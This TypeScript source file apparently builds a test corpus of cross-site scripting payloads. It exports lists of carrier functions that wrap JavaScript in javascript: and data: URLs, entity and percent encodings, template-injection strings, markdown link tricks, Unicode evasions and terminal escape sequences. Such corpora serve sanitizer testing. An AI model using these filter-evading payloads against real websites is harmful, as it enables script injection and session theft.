import { type Carrier, canaryHost } from './markup.ts';

const inEntities = (text: string, base: 10 | 16, end = ';') =>
  [...text]
    .map((it) => `&#${base === 16 ? 'x' : ''}${it.charCodeAt(0).toString(base)}${end}`)
    .join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

export const urls: Carrier[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `javascript://${canaryHost}/%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${base64(`<script>${js}</script>`)}`,
  (js) => `vbscript:${js}`,
  (js) => `#/login?redirect=javascript:${js}`,
  (js) => `<a href="javascript:${js}">Tap</a>`,
  (js) => `<a href="java&#9;script:${js}">Tap</a>`,
  (js) => `/\\${canaryHost}/?${js}`,
];

export const encodings: Carrier[] = [
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `&amp;lt;script&amp;gt;${js}&amp;lt;/script&amp;gt;`,
  (js) => `<img src=x onerror=${inEntities(js.slice(0, 3), 10)}${js.slice(3)}>`,
  (js) => `<img src=x onerror=${inEntities(js.slice(0, 3), 16, '')};${js.slice(3)}>`,
  (js) => `${inEntities('<img', 16)} src=x onerror=${js}&gt;`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `%253Cscript%253E${js}%253C/script%253E`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js) => `\\x3cscript\\x3e${js}\\x3c/script\\x3e`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `<img src=x onerror="\\u{78}ss=1;${js}">`,
];

export const templates: Carrier[] = [
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `[[\${${js}}]]`,
  (js) => `$t(title.home) {{name}} ${js}`,
  (js) => `<0>${js}</0><1/>`,
  (js) => `__proto__ ${js} constructor %s %o`,
  (js) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${js}"}}`,
  (js) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}`,
];

export const markdown: Carrier[] = [
  (js) => `[Tap](javascript:${js})`,
  (js) => `[Tap](<java\tscript:${js}>)`,
  (js) => `[Tap](JaVaScRiPt&colon;${js})`,
  (js) => `[Tap](&#106;avascript:${js})`,
  (js) => `[Tap](data:text/html;base64,${base64(`<script>${js}</script>`)})`,
  (js) => `[Tap](#/home "x' onmouseover='${js}")`,
  (js) => `[Tap][x${js}]`,
  (js) => `![x](x"onerror="${js})`,
  (js) => `<javascript:${js}>`,
  (js) => `\`<img src=x onerror=${js}>\``,
  (js) => `**<img src=x onerror=${js}>**`,
  (js) => `[<img src=x onerror=${js}>](#/home)`,
  (js) => `<!-- --!><img src=x onerror=${js}> -->`,
  (js) => `<details open ontoggle=${js}><summary>Tap</summary></details>`,
];

export const unicode: Carrier[] = [
  (js) => `\u202e<script>${js}</script>\u202c`,
  (js) => `\u2066<img src=x onerror=${js}>\u2069`,
  (js) => `\u200f">\u200e<svg onload=${js}>`,
  (js) => `<scr\u200bipt>${js}</scr\u200bipt>`,
  (js) => `<\ufefftag onclick=${js}><script>${js}</script>`,
  (js) => `<s\u0336cript>${js}</s\u0336cript>`,
  (js) => `<ſcript>${js}</ſcript>`,
  (js) => `<img src=x\u2028onerror=${js}\u2029>`,
  (js) => `<img\u3000src=x onerror=${js}>\ud83c\udff4\u200d\u2620\ufe0f`,
  (js) => `\u0e01\u0e49\u0e49\u0e49<svg onload=${js}>`,
];

export const terminal: Carrier[] = [
  (js) => `\u001b]8;;javascript:${js}\u0007Tap\u001b]8;;\u0007`,
  (js) => `\u001b[2J\u001b[1;1H<script>${js}</script>`,
  (js) => `\u001b]0;${js}\u0007`,
  (js) => `\u009b31m<img src=x onerror=${js}>\u009b0m`,
  (js) => `x\r\n\r\n<script>${js}</script>`,
  (js) => `\b\b\b<svg onload=${js}>\u007f`,
];
